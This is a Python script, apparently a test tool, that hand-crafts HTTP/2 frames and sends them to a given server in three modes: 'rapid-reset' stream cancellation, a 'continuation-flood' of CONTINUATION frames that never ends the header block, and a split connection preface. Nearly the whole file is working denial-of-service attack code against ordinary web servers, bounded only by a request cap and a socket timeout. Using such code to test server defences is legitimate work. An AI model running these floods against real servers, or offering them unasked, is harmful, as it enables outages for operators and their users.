#!/usr/bin/python3
"""h2attack.py rapid-reset|continuation-flood|split-preface HOST PORT [N]

A raw-frame HTTP/2 attacker for tests: builds frames by hand (HPACK literal
headers without indexing, no Huffman) and sends them to a real server.
  rapid-reset:        N x (HEADERS with END_STREAM, then RST_STREAM CANCEL)
  continuation-flood: one HEADERS without END_HEADERS, then N CONTINUATION
                      frames of junk headers, never ending the block
  split-preface:      the preface's first 3 bytes alone, then after a pause
                      the rest and N requests for /index.html?split=I (a
                      server waits for the whole preface; an inspector
                      judging the connection by its first read must too)
Bounded: N <= 100000, 10 s socket timeout."""
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(ftype, flags, stream, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, stream & 0x7FFFFFFF) + payload


def lit(name, value):
    # literal header field without indexing, new name (RFC 7541 6.2.2)
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def request_block(host, path=b"/"):
    return (lit(b":method", b"GET") + lit(b":scheme", b"http") +
            lit(b":path", path) + lit(b":authority", host))


def drain(s):
    s.settimeout(0.2)
    try:
        while s.recv(65536):
            pass
    except OSError:
        pass


def main():
    mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    n = min(int(sys.argv[4]) if len(sys.argv) > 4 else 200, 100000)
    s = socket.create_connection((host, port), timeout=10)
    hb = request_block(host.encode())
    if mode == "split-preface":
        s.sendall(PREFACE[:3])
        time.sleep(0.3)  # the server reads "PRI" on its own
        out = [PREFACE[3:], frame(0x4, 0, 0)]
        for i in range(min(n, 100)):
            path = b"/index.html?split=%d" % i
            out.append(frame(0x1, 0x5, 1 + 2 * i, request_block(host.encode(), path)))
        s.sendall(b"".join(out))
        time.sleep(0.3)
        drain(s)
        s.close()
        return
    s.sendall(PREFACE + frame(0x4, 0, 0))  # empty SETTINGS
    if mode == "rapid-reset":
        out = []
        for i in range(n):
            sid = 1 + 2 * i
            out.append(frame(0x1, 0x5, sid, hb))                      # END_STREAM|END_HEADERS
            out.append(frame(0x3, 0, sid, struct.pack(">I", 8)))      # RST_STREAM CANCEL
            if len(out) >= 200:
                s.sendall(b"".join(out))
                out = []
        if out:
            s.sendall(b"".join(out))
    elif mode == "continuation-flood":
        # One write: the server's first read holds the whole flood. A
        # server with its own CONTINUATION limit (nghttp2 >= 1.61, Debian's
        # backport) stops reading after a few frames; frames sent one by one
        # would then reach it (and us) only while it still reads.
        junk = lit(b"x-flood", b"a" * 60)
        burst = frame(0x1, 0x1, 1, hb)  # END_STREAM, no END_HEADERS
        burst += b"".join(frame(0x9, 0, 1, junk) for _ in range(n))
        try:
            s.sendall(burst)
        except OSError:
            pass  # the server gave up on us: that is fine
    else:
        raise SystemExit("unknown mode " + mode)
    time.sleep(0.2)
    drain(s)
    s.close()


if __name__ == "__main__":
    main()
